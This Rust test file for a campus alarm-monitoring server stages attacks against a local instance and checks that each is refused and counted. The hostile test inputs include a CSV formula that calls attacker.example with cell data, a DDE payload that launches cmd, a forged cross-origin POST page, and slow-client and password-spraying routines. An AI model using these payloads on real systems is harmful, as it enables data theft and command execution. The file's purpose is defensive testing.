//! Attacks on the server's edges, each reproduced against a running server and shown
//! refused, counted and logged.

mod common;

use std::time::Duration;

use campuswatch_protocol::{DeviceKind, DeviceState};
use campuswatch_testkit::{device, wait_for};

const WAIT: Duration = Duration::from_secs(15);

/// PROTOCOL.md §2: a campus reports under its county's code. Messages on a city's or the
/// province's code are dropped as `topic`, never listed as an unregistered campus.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_city_or_province_code_in_a_topic_is_dropped_not_listed() {
    let dir = tempfile::tempdir().unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = campuswatch_server::start(common::local_config(dir.path()), listener)
        .await
        .unwrap();
    let broker = common::broker_addr(&server);
    let devices = || vec![device("alarm-1", DeviceKind::Alarm, DeviceState::Up)];
    // A birth and a heartbeat each, under the city of Hohhot and under the province.
    let _city = common::gateway(broker, "150100-K-1", "150100", devices()).await;
    let _province = common::gateway(broker, "150000-K-1", "150000", devices()).await;
    // And a campus that reports under its county, which is listed.
    let _county = common::gateway(broker, "150102-K-1", "150102", devices()).await;
    let http = reqwest::Client::new();
    let base = format!("http://{}", server.http_addr());
    let listed = wait_for("the county's campus to be listed", WAIT, || async {
        let v = common::get_json(&http, &format!("{base}/api/v1/campuses?registered=false")).await;
        let ids: Vec<String> = v["campuses"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["id"].as_str().unwrap().to_string())
            .collect();
        ids.contains(&"150102-K-1".to_string()).then_some(ids)
    })
    .await;
    wait_for("the four messages to be dropped as topic", WAIT, || async {
        (server.metrics.dropped_count("topic") >= 4).then_some(())
    })
    .await;
    // Every message is in by now: the county's campus alone is listed.
    let v = common::get_json(&http, &format!("{base}/api/v1/campuses?registered=false")).await;
    let ids: Vec<&str> = v["campuses"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["150102-K-1"], "{listed:?}");
    let metrics = http
        .get(format!("{base}/metrics"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("cw_messages_dropped_total{reason=\"topic\"}"),
        "{metrics}"
    );
    server.stop().await;
}

/// A campus named like a spreadsheet formula, and a cause that is one, reach every CSV
/// as text (a leading apostrophe), and the registry's own file reads back unchanged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_files_neutralise_formulas_and_the_registry_reads_its_own_back() {
    use campuswatch_protocol::{CampusId, Message, RegionCode, SchoolType};
    let dir = tempfile::tempdir().unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = campuswatch_server::start(common::local_config(dir.path()), listener)
        .await
        .unwrap();
    let evil = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"查看\")";
    server
        .import_registry(
            vec![campuswatch_server::testing::entry(
                "150102-P-1",
                "150102",
                SchoolType::Primary,
                1,
                1,
            )
            .named(evil)],
            false,
        )
        .await
        .unwrap();
    // Its gateway reports its alarm down with a cause that is a formula too.
    let broker = common::broker_addr(&server);
    let campus = CampusId::parse("150102-P-1").unwrap();
    let region = RegionCode::parse("150102").unwrap();
    let client = common::gateway(
        broker,
        "150102-P-1",
        "150102",
        vec![
            device("alarm-1", DeviceKind::Alarm, DeviceState::Up),
            device("cam-1", DeviceKind::Camera, DeviceState::Up),
        ],
    )
    .await;
    let Message::Event(mut e) = campuswatch_testkit::event(
        &campus,
        region,
        1,
        1,
        "alarm-1",
        DeviceKind::Alarm,
        (DeviceState::Up, DeviceState::Down),
    ) else {
        unreachable!()
    };
    e.cause = Some("@SUM(1+1)*cmd|' /C calc'!A0".into());
    common::publish(&client, &Message::Event(e)).await;

    let http = reqwest::Client::new();
    let base = format!("http://{}", server.http_addr());
    let csv = |path: String| {
        let http = http.clone();
        async move {
            let r = http.get(path).send().await.unwrap();
            assert_eq!(r.status(), 200);
            r.text().await.unwrap()
        }
    };
    let alerts = wait_for("the alarm's alert", WAIT, || async {
        let text = csv(format!("{base}/api/v1/alerts?state=open&format=csv")).await;
        text.contains("alarm-1").then_some(text)
    })
    .await;
    let cells = |text: &str| -> Vec<String> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
            .records()
            .flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>())
            .collect()
    };
    let protected = format!("'{evil}");
    for (what, text) in [
        ("alerts", alerts),
        (
            "registry",
            csv(format!("{base}/api/v1/registry?format=csv")).await,
        ),
        (
            "not networked",
            csv(format!(
                "{base}/api/v1/reports/coverage?format=csv&table=not_networked"
            ))
            .await,
        ),
    ] {
        let cells = cells(&text);
        assert!(cells.contains(&protected), "{what}: {text}");
        assert!(
            cells
                .iter()
                .all(|c| !c.starts_with(['=', '+', '@', '\t', '\r'])),
            "{what}: {cells:?}"
        );
        if what == "alerts" {
            assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
        }
    }
    // The registry's file, imported again, gives the same name.
    let file = csv(format!("{base}/api/v1/registry?format=csv")).await;
    let r = http
        .post(format!("{base}/api/v1/registry"))
        .header("content-type", "text/csv")
        .body(file)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let v = common::get_json(&http, &format!("{base}/api/v1/campuses/150102-P-1")).await;
    assert_eq!(v["name"], evil);
    server.stop().await;
}

/// An operator scoped to one city may plan and withdraw windows of their city only: a
/// province-wide window is theirs to read, not to withdraw; and a window is stored as
/// planned by whoever is signed in, whatever the request says.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn maintenance_is_changed_within_the_callers_scope_and_named_after_them() {
    use campuswatch_server::auth::Role;
    use serde_json::{json, Value};
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in(dir.path()).await;
    common::add_users(
        &server,
        &[
            ("admin", Role::Admin, None),
            ("baotou-duty", Role::Operator, Some("150200")),
        ],
    )
    .await;
    let base = format!("http://{}", server.http_addr());
    let admin = common::cookie_client(&base, "admin").await;
    let duty = common::cookie_client(&base, "baotou-duty").await;
    let window = |region: &str| {
        json!({"scope": "region", "region": region, "created_by": "admin",
               "schedule": {"repeat": "once", "start": "2030-01-01T00:00:00Z",
                            "end": "2030-01-02T00:00:00Z"}})
    };
    let plan = |http: &reqwest::Client, body: Value| {
        let (http, url) = (http.clone(), format!("{base}/api/v1/maintenance"));
        async move {
            let r = http.post(url).json(&body).send().await.unwrap();
            (r.status().as_u16(), r.json::<Value>().await.unwrap())
        }
    };
    let (status, province) = plan(&admin, window("150000")).await;
    assert_eq!(status, 201, "{province}");
    // The city's operator sees the province's window, and may not withdraw it.
    let id = province["id"].as_u64().unwrap();
    let list = common::get_json(&duty, &format!("{base}/api/v1/maintenance")).await;
    assert!(list.to_string().contains(&format!("\"id\":{id}")), "{list}");
    let r = duty
        .delete(format!("{base}/api/v1/maintenance/{id}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["code"], "forbidden");
    let list = common::get_json(&admin, &format!("{base}/api/v1/maintenance")).await;
    assert!(
        list.to_string().contains(&format!("\"id\":{id}")),
        "still there: {list}"
    );
    // Their own city's window: planned under their own name, and theirs to withdraw.
    let (status, own) = plan(&duty, window("150200")).await;
    assert_eq!(status, 201, "{own}");
    assert_eq!(own["created_by"], "baotou-duty");
    let r = duty
        .delete(format!("{base}/api/v1/maintenance/{}", own["id"]))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 204);
    // Another city's window stays unknown to them.
    let (_, hohhot) = plan(&admin, window("150100")).await;
    let r = duty
        .delete(format!("{base}/api/v1/maintenance/{}", hohhot["id"]))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
    // The admin withdraws the province's.
    let r = admin
        .delete(format!("{base}/api/v1/maintenance/{id}"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 204);
    server.stop().await;
}

/// An administrator scoped to one city cannot move another city's campus into theirs by
/// importing a row for it, and the answer counts only their own campuses.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scoped_import_cannot_take_another_citys_campus_nor_count_it() {
    use campuswatch_protocol::SchoolType;
    use campuswatch_server::auth::Role;
    use campuswatch_server::testing::entry;
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in_with(
        dir.path(),
        vec![
            entry("h-1", "150102", SchoolType::Primary, 1, 1),
            entry("b-1", "150203", SchoolType::Primary, 1, 1),
        ],
        &[
            ("admin", Role::Admin, None),
            ("hohhot-admin", Role::Admin, Some("150100")),
        ],
    )
    .await;
    let base = format!("http://{}", server.http_addr());
    let hohhot = common::cookie_client(&base, "hohhot-admin").await;
    let admin = common::cookie_client(&base, "admin").await;
    let import = |csv: &'static str| {
        let (http, url) = (hohhot.clone(), format!("{base}/api/v1/registry"));
        async move {
            let r = http
                .post(url)
                .header("content-type", "text/csv")
                .body(csv)
                .send()
                .await
                .unwrap();
            (
                r.status().as_u16(),
                r.json::<serde_json::Value>().await.unwrap(),
            )
        }
    };
    // Baotou's campus, re-registered under a Hohhot county: refused, nothing changes.
    let (status, body) = import(
        "id,name,region,school_type,expected_alarms,expected_cameras\n\
         h-2,New school,150102,primary,1,1\n\
         b-1,Taken,150102,primary,1,1\n",
    )
    .await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(body["code"], "forbidden");
    let b1 = common::get_json(&admin, &format!("{base}/api/v1/campuses/b-1")).await;
    assert_eq!(
        (&b1["region"], &b1["name"]),
        (&"150203".into(), &"Campus b-1".into())
    );
    let h2 = admin
        .get(format!("{base}/api/v1/campuses/h-2"))
        .send()
        .await
        .unwrap();
    assert_eq!(h2.status(), 404, "nothing of the file was imported");
    // Their own campuses: imported, and counted within Hohhot only (not the province's 3).
    let (status, body) = import(
        "id,name,region,school_type,expected_alarms,expected_cameras\n\
         h-2,New school,150102,primary,1,1\n",
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["registered"], 2, "{body}");
    server.stop().await;
}

/// A page of another origin (here another port of the same host: the same site, so the
/// `SameSite=Strict` cookie goes along) posts a registry that would replace the real one
/// while an administrator is signed in: refused, counted and nothing changes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_of_another_origin_cannot_change_anything_with_the_admins_cookie() {
    use campuswatch_protocol::SchoolType;
    use campuswatch_server::testing::entry;
    use common::browser::Browser;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Some(b) = Browser::start().await else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in_with(
        dir.path(),
        vec![entry("k-1", "150102", SchoolType::Kindergarten, 1, 1)],
        &[("admin", campuswatch_server::auth::Role::Admin, None)],
    )
    .await;
    let base = format!("http://{}", server.http_addr());
    // The attacker's page, served from another port.
    let page = format!(
        "<!doctype html><title>win a prize</title><script>
         fetch('{base}/api/v1/registry?mode=replace', {{method: 'POST', mode: 'no-cors',
           credentials: 'include', headers: {{'Content-Type': 'text/plain'}},
           body: 'id,name,region,school_type,expected_alarms,expected_cameras\\nx-1,Forged,150102,primary,1,1\\n'}})
           .then(() => document.title = 'sent', e => document.title = 'failed ' + e);
         </script>"
    );
    let attacker = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let attacker_url = format!("http://{}/", attacker.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = attacker.accept().await {
            let mut buf = [0u8; 4096];
            let _ = conn.read(&mut buf).await;
            let answer = format!(
                "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{page}",
                page.len()
            );
            let _ = conn.write_all(answer.as_bytes()).await;
        }
    });
    // The administrator signs in to the console, then opens the attacker's page.
    b.goto(&format!("{base}/console")).await;
    b.type_into("#signin input[name=name]", "admin").await;
    b.type_into("#signin input[name=password]", "admin password")
        .await;
    b.click("#signin button[type=submit]").await;
    b.find("#totals .total").await;
    b.goto(&attacker_url).await;
    wait_for("the forged request to be sent", WAIT, || async {
        let title = b
            .eval("return document.title;", serde_json::json!([]))
            .await;
        (title != "win a prize").then_some(title)
    })
    .await;
    wait_for("the refusal to be counted", WAIT, || async {
        (server.metrics.http_refused_count("cross_origin") >= 1).then_some(())
    })
    .await;
    // The registry is as it was: k-1, and no forged campus.
    b.goto(&format!("{base}/console")).await;
    b.find("#totals .total").await;
    let (status, registry) = b.fetch("/api/v1/registry").await;
    assert_eq!(status, 200);
    let ids: Vec<&str> = registry
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["campus"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["k-1"]);
    // The console's own changes still pass: the same origin.
    let ack = b
        .eval(
            "return fetch('/api/v1/maintenance', {method: 'POST', credentials: 'same-origin',
               headers: {'Content-Type': 'application/json'},
               body: JSON.stringify({scope: 'region', region: '150102', schedule: {repeat: 'once',
                 start: '2030-01-01T00:00:00Z', end: '2030-01-02T00:00:00Z'}})})
               .then(r => r.status);",
            serde_json::json!([]),
        )
        .await;
    assert_eq!(ack, 201);
    server.stop().await;
}

/// A client that sends half a request and waits, or opens connection after connection,
/// cannot hold the server's sockets: headers must come within `http.header_timeout`, a
/// body's parts within `http.body_timeout`, and connections beyond
/// `http.max_connections` are closed as they arrive; requests of others go on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_clients_are_cut_off_and_connections_are_capped() {
    use std::time::Instant;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpStream;
    let dir = tempfile::tempdir().unwrap();
    let mut cfg = common::local_config(dir.path());
    cfg.http.header_timeout = Duration::from_millis(500);
    cfg.http.body_timeout = Duration::from_millis(500);
    cfg.http.max_connections = 3;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = campuswatch_server::start(cfg, listener).await.unwrap();
    let addr = server.http_addr();
    // Until the server closes it (read gives 0 or fails): what it said, and when.
    async fn until_closed(s: &mut TcpStream) -> (String, Duration) {
        let started = Instant::now();
        let mut got = Vec::new();
        let mut buf = [0u8; 1024];
        loop {
            match tokio::time::timeout(WAIT, s.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
                Err(_) => panic!("the server kept the connection open for {WAIT:?}"),
            }
        }
        (
            String::from_utf8_lossy(&got).into_owned(),
            started.elapsed(),
        )
    }

    // Half the headers, then nothing: closed after the header timeout.
    let mut slow = TcpStream::connect(addr).await.unwrap();
    slow.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let (_, took) = until_closed(&mut slow).await;
    assert!(took < Duration::from_secs(5), "{took:?}");

    // The headers, and a tenth of the body they announce: the request fails, the
    // connection ends.
    let mut slow = TcpStream::connect(addr).await.unwrap();
    slow.write_all(
        b"POST /api/v1/session HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{\"name\":",
    )
    .await
    .unwrap();
    let (answer, took) = until_closed(&mut slow).await;
    assert!(took < Duration::from_secs(5), "{took:?}");
    assert!(!answer.starts_with("HTTP/1.1 2"), "{answer}");

    // Three idle connections hold every slot: a fourth is closed at once, and counted.
    let mut idle = Vec::new();
    for _ in 0..3 {
        idle.push(TcpStream::connect(addr).await.unwrap());
    }
    wait_for(
        "the connection beyond the cap to be closed",
        WAIT,
        || async {
            let mut extra = TcpStream::connect(addr).await.unwrap();
            let _ = extra
                .write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\nconnection: close\r\n\r\n")
                .await;
            let (answer, _) = until_closed(&mut extra).await;
            answer.is_empty().then_some(())
        },
    )
    .await;
    assert!(server.metrics.http_refused_count("connection_limit") >= 1);
    // Once they go, others are served again.
    drop(idle);
    let health = wait_for(
        "a request served after the idle ones left",
        WAIT,
        || async { reqwest::get(format!("http://{addr}/healthz")).await.ok() },
    )
    .await;
    assert_eq!(health.status(), 200);
    server.stop().await;
}

/// Guessing a password: after 5 failures of a name (or 20 from one address) every attempt
/// waits, twice as long each time, before it is even checked: `429` with `Retry-After`,
/// counted; the right password works again once the wait is over. On the server's clock.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_passwords_is_slowed_down_per_name_and_per_address() {
    use campuswatch_server::auth::Role;
    use campuswatch_server::testing::ManualClock;
    let dir = tempfile::tempdir().unwrap();
    let clock = ManualClock::new(campuswatch_testkit::at("2027-03-01T00:00:00Z"));
    let server = common::start_signed_in_at(dir.path(), clock.clone()).await;
    common::add_users(&server, &[("admin", Role::Admin, None)]).await;
    let url = format!("http://{}/api/v1/session", server.http_addr());
    let http = reqwest::Client::new();
    let attempt = |name: &str, password: &str| {
        let req = http
            .post(&url)
            .json(&serde_json::json!({"name": name, "password": password}));
        async move {
            let r = req.send().await.unwrap();
            let retry = r
                .headers()
                .get("retry-after")
                .map(|v| v.to_str().unwrap().to_string());
            (r.status().as_u16(), retry)
        }
    };
    for _ in 0..5 {
        assert_eq!(attempt("admin", "guess").await, (401, None));
    }
    // Even the right password waits now, and the refusal is counted.
    assert_eq!(
        attempt("admin", "admin password").await,
        (429, Some("1".into()))
    );
    assert_eq!(server.metrics.http_refused_count("sign_in_throttled"), 1);
    // A second later it is checked again; one more failure doubles the wait.
    clock.advance(chrono::TimeDelta::seconds(1));
    assert_eq!(attempt("admin", "guess").await.0, 401);
    assert_eq!(
        attempt("admin", "admin password").await,
        (429, Some("2".into()))
    );
    clock.advance(chrono::TimeDelta::seconds(2));
    assert_eq!(attempt("admin", "admin password").await.0, 200);
    // A success clears the name's count, not the address's: 7 failures of its 20.
    assert_eq!(attempt("admin", "guess").await.0, 401);
    // Spraying other names from the same address: the 20th failure, then every name
    // waits, the right one too.
    for i in 0..13 {
        assert_eq!(
            attempt(&format!("user{i}"), "guess").await.0,
            401,
            "user{i}"
        );
    }
    assert_eq!(attempt("admin", "admin password").await.0, 429);
    server.stop().await;
}

/// A viewer asking for the daily history of a year long before the server existed, or
/// in another time zone's days, makes the server neither compute nor store anything:
/// other offsets are refused, days before the history began are gaps.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn report_history_is_bounded_to_the_servers_zone_and_its_own_past() {
    use campuswatch_protocol::SchoolType;
    use campuswatch_server::auth::Role;
    use campuswatch_server::testing::entry;
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in(dir.path()).await;
    server
        .import_registry(
            (0..50)
                .map(|i| entry(&format!("c-{i}"), "150102", SchoolType::Primary, 1, 1))
                .collect(),
            false,
        )
        .await
        .unwrap();
    common::add_users(&server, &[("viewer", Role::Viewer, None)]).await;
    let base = format!("http://{}", server.http_addr());
    let viewer = common::cookie_client(&base, "viewer").await;
    let get = |path: String| {
        let viewer = viewer.clone();
        async move {
            let r = viewer.get(path).send().await.unwrap();
            (
                r.status().as_u16(),
                r.json::<serde_json::Value>().await.unwrap(),
            )
        }
    };
    let daily = format!("{base}/api/v1/reports/coverage/daily");
    // Another offset than the server's zone (Asia/Shanghai, +08:00): refused, named.
    for offset in ["%2B00:00", "-05:00", "%2B09:00"] {
        let (status, body) = get(format!(
            "{daily}?from=2026-01-01&to=2026-06-30&utc_offset={offset}"
        ))
        .await;
        assert_eq!(status, 400, "{offset}: {body}");
        assert!(
            body["error"].as_str().unwrap().contains("Asia/Shanghai"),
            "{body}"
        );
    }
    // A year before the server existed: answered, with no day computed or stored.
    let (status, body) = get(format!("{daily}?from=2020-01-01&to=2020-12-31")).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["days"], serde_json::json!([]), "{body}");
    let (status, body) = get(format!(
        "{daily}?from=2020-01-01&to=2020-12-31&utc_offset=%2B08:00"
    ))
    .await;
    assert_eq!((status, &body["days"]), (200, &serde_json::json!([])));
    let stored = server
        .store
        .coverage_daily(
            None,
            None,
            chrono::NaiveDate::from_ymd_opt(2020, 1, 1).unwrap(),
            chrono::NaiveDate::from_ymd_opt(2020, 12, 31).unwrap(),
            chrono::FixedOffset::east_opt(8 * 3600).unwrap(),
        )
        .await
        .unwrap();
    assert!(stored.is_empty(), "{} days stored", stored.len());

    // Every role meets the same bounds, and a user of another city is refused the
    // county's history before any day is computed.
    common::add_users(
        &server,
        &[
            ("operator", Role::Operator, None),
            ("admin", Role::Admin, None),
            ("baotou", Role::Admin, Some("150200")),
        ],
    )
    .await;
    for name in ["operator", "admin", "baotou"] {
        let client = common::cookie_client(&base, name).await;
        let r = client
            .get(format!(
                "{daily}?from=2026-01-01&to=2026-01-31&utc_offset=-05:00"
            ))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400, "{name}");
        let r = client
            .get(format!("{daily}?from=2024-01-01&to=2026-01-31"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400, "{name}: more than 366 days");
    }
    let baotou = common::cookie_client(&base, "baotou").await;
    let r = baotou
        .get(format!(
            "{daily}?from=2020-01-01&to=2020-12-31&region=150102"
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "another city's county");
    server.stop().await;
}

/// The documented `registry import` command works with sign-in on: with an
/// administrator's API token in `CAMPUSWATCH_TOKEN`; without one it says what to do.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_registry_import_command_signs_in_with_a_token() {
    use campuswatch_server::auth::Role;
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in(dir.path()).await;
    common::add_users(&server, &[("admin", Role::Admin, None)]).await;
    let base = format!("http://{}", server.http_addr());
    let admin = common::cookie_client(&base, "admin").await;
    let token: serde_json::Value = admin
        .post(format!("{base}/api/v1/tokens"))
        .json(&serde_json::json!({"name": "registry import"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let token = token["token"].as_str().unwrap().to_string();
    let config = dir.path().join("cli.toml");
    std::fs::write(
        &config,
        format!("[http]\nlisten = \"{}\"\n", server.http_addr()),
    )
    .unwrap();
    let csv = dir.path().join("campuses.csv");
    std::fs::write(
        &csv,
        "id,name,region,school_type,expected_alarms,expected_cameras\nk-9,Kindergarten 9,150102,kindergarten,1,2\n",
    )
    .unwrap();
    let run = move |token: Option<&str>| {
        let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_campuswatch-server"));
        cmd.args(["registry", "import", "--config"])
            .arg(&config)
            .arg(&csv)
            .env_remove("CAMPUSWATCH_TOKEN");
        if let Some(t) = token {
            cmd.env("CAMPUSWATCH_TOKEN", t);
        }
        cmd.output().unwrap()
    };
    let refused = tokio::task::spawn_blocking({
        let run = run.clone();
        move || run(None)
    })
    .await
    .unwrap();
    assert!(!refused.status.success());
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(said.contains("CAMPUSWATCH_TOKEN"), "{said}");
    let done = tokio::task::spawn_blocking(move || run(Some(&token)))
        .await
        .unwrap();
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    let v = common::get_json(&admin, &format!("{base}/api/v1/campuses/k-9")).await;
    assert_eq!(v["name"], "Kindergarten 9");
    // The token never shows in what the command printed.
    let printed = String::from_utf8_lossy(&done.stdout);
    assert!(!printed.contains("cwt_"), "{printed}");
    server.stop().await;
}

/// API tokens expire: 90 days unless the request asks for fewer (at most 365), on the
/// server's clock; a new password ends every token and session the old one opened.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_expire_and_a_new_password_ends_them() {
    use campuswatch_server::auth::Role;
    use campuswatch_server::testing::ManualClock;
    let dir = tempfile::tempdir().unwrap();
    let clock = ManualClock::new(campuswatch_testkit::at("2027-03-01T00:00:00Z"));
    let server = common::start_signed_in_at(dir.path(), clock.clone()).await;
    common::add_users(&server, &[("admin", Role::Admin, None)]).await;
    let base = format!("http://{}", server.http_addr());
    let admin = common::cookie_client(&base, "admin").await;
    let make = |body: serde_json::Value| {
        let (admin, url) = (admin.clone(), format!("{base}/api/v1/tokens"));
        async move {
            let r = admin.post(url).json(&body).send().await.unwrap();
            (
                r.status().as_u16(),
                r.json::<serde_json::Value>().await.unwrap(),
            )
        }
    };
    for days in [0, 366] {
        let (status, body) = make(serde_json::json!({"name": "x", "days": days})).await;
        assert_eq!(status, 400, "{days}: {body}");
    }
    let (status, long) = make(serde_json::json!({"name": "nightly export"})).await;
    assert_eq!(status, 201, "{long}");
    assert_eq!(long["expires_at"], "2027-05-30T00:00:00Z");
    let (_, short) = make(serde_json::json!({"name": "one week", "days": 7})).await;
    let works = |token: &serde_json::Value| {
        let req = reqwest::Client::new()
            .get(format!("{base}/api/v1/coverage"))
            .bearer_auth(token["token"].as_str().unwrap());
        async move { req.send().await.unwrap().status().as_u16() }
    };
    assert_eq!((works(&long).await, works(&short).await), (200, 200));
    clock.advance(chrono::TimeDelta::days(8));
    assert_eq!((works(&long).await, works(&short).await), (200, 401));
    // The admin's password is changed: the long one ends too.
    common::add_users(&server, &[("admin", Role::Admin, None)]).await;
    assert_eq!(works(&long).await, 401);
    server.stop().await;
}

/// The status and JSON body (`null` if none) of a request.
async fn answer(req: reqwest::RequestBuilder) -> (u16, serde_json::Value) {
    let r = req.send().await.unwrap();
    let status = r.status().as_u16();
    let text = r.text().await.unwrap();
    (status, serde_json::from_str(&text).unwrap_or_default())
}

/// A token made by `http`'s user.
async fn make_token(base: &str, http: &reqwest::Client, name: &str) -> (i64, String) {
    let (status, t) = answer(
        http.post(format!("{base}/api/v1/tokens"))
            .json(&serde_json::json!({ "name": name })),
    )
    .await;
    assert_eq!(status, 201, "{t}");
    (
        t["id"].as_i64().unwrap(),
        t["token"].as_str().unwrap().to_string(),
    )
}

/// What a bearer token is answered for a read.
async fn bearer_status(base: &str, token: &str) -> u16 {
    reqwest::Client::new()
        .get(format!("{base}/api/v1/session"))
        .bearer_auth(token)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

/// The ids of the users, by name, as the administrator of everything lists them.
async fn user_ids(base: &str, admin: &reqwest::Client) -> std::collections::HashMap<String, i64> {
    let v = common::get_json(admin, &format!("{base}/api/v1/users")).await;
    v["users"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| {
            (
                u["name"].as_str().unwrap().to_string(),
                u["id"].as_i64().unwrap(),
            )
        })
        .collect()
}

/// Everyone lists and revokes their own tokens; an administrator those of the users
/// within their scope, and no others (404, as for a token that does not exist); a
/// revoked token is refused at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_are_listed_and_revoked_by_their_user_or_an_admin_of_their_region() {
    use campuswatch_server::auth::Role;
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in_with(
        dir.path(),
        vec![],
        &[
            ("admin", Role::Admin, None),
            ("hohhot-admin", Role::Admin, Some("150100")),
            ("baotou-admin", Role::Admin, Some("150200")),
            ("hohhot-duty", Role::Operator, Some("150102")),
            ("hohhot-viewer", Role::Viewer, Some("150102")),
        ],
    )
    .await;
    let base = format!("http://{}", server.http_addr());
    let admin = common::cookie_client(&base, "admin").await;
    let hohhot = common::cookie_client(&base, "hohhot-admin").await;
    let baotou = common::cookie_client(&base, "baotou-admin").await;
    let duty = common::cookie_client(&base, "hohhot-duty").await;
    let viewer = common::cookie_client(&base, "hohhot-viewer").await;
    let ids = user_ids(&base, &admin).await;
    let (duty_token, duty_secret) = make_token(&base, &duty, "duty export").await;
    let (viewer_token, viewer_secret) = make_token(&base, &viewer, "wallboard").await;
    let (admin_token, admin_secret) = make_token(&base, &admin, "nightly").await;

    // Each lists their own, never the secret.
    let (status, own) = answer(viewer.get(format!("{base}/api/v1/tokens"))).await;
    assert_eq!(status, 200, "{own}");
    let listed = own["tokens"].as_array().unwrap();
    assert_eq!(listed.len(), 1, "{own}");
    assert_eq!(
        (&listed[0]["id"], &listed[0]["name"], &listed[0]["user"]),
        (
            &viewer_token.into(),
            &"wallboard".into(),
            &"hohhot-viewer".into()
        )
    );
    assert!(listed[0]["expires_at"].is_string() && listed[0]["revoked_at"].is_null());
    assert!(!own.to_string().contains("cwt_"), "{own}");
    // A viewer or an operator asking for another's tokens: 403.
    for who in [&viewer, &duty] {
        let (status, _) =
            answer(who.get(format!("{base}/api/v1/tokens?user={}", ids["admin"]))).await;
        assert_eq!(status, 403);
    }
    // An administrator of another city neither lists nor revokes Hohhot's: 404.
    let duty_url = format!("{base}/api/v1/tokens?user={}", ids["hohhot-duty"]);
    assert_eq!(answer(baotou.get(&duty_url)).await.0, 404);
    let revoke =
        |http: &reqwest::Client, id: i64| http.delete(format!("{base}/api/v1/tokens/{id}"));
    assert_eq!(answer(revoke(&baotou, duty_token)).await.0, 404);
    // Nor does a viewer revoke an operator's, nor a city's admin the province's.
    assert_eq!(answer(revoke(&viewer, duty_token)).await.0, 404);
    assert_eq!(answer(revoke(&hohhot, admin_token)).await.0, 404);
    assert_eq!(
        answer(hohhot.get(format!("{base}/api/v1/tokens?user={}", ids["admin"])))
            .await
            .0,
        404
    );
    assert_eq!(bearer_status(&base, &duty_secret).await, 200, "still works");
    assert_eq!(
        bearer_status(&base, &admin_secret).await,
        200,
        "still works"
    );
    // Hohhot's administrator lists and revokes it: refused from then on.
    let (status, theirs) = answer(hohhot.get(&duty_url)).await;
    assert_eq!(status, 200);
    assert_eq!(theirs["tokens"][0]["id"], duty_token);
    assert!(theirs["tokens"][0]["last_used"].is_string(), "{theirs}");
    assert_eq!(answer(revoke(&hohhot, duty_token)).await.0, 204);
    assert_eq!(bearer_status(&base, &duty_secret).await, 401);
    assert_eq!(
        answer(revoke(&hohhot, duty_token)).await.0,
        204,
        "again: no change"
    );
